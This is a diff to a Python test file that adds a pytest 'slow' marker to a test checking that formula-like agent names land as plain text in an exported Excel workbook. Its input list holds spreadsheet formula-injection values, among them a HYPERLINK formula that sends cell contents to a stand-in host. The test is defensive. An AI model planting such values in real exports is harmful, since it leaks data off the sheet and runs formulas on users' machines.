@@ -6,12 +6,14 @@ from __future__ import annotations
 import zipfile
 
 import pandas as pd
+import pytest
 from helpers import invoke
 from openpyxl import load_workbook
 
 NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "Lan"]
 
 
+@pytest.mark.slow  # a weekly run (about 2 s)
 def test_formula_like_agent_names_are_text_in_the_workbook(small, tmp_path):
     hist = pd.read_csv(small.with_name("history.csv"))
     requirements = tmp_path / "req.csv"
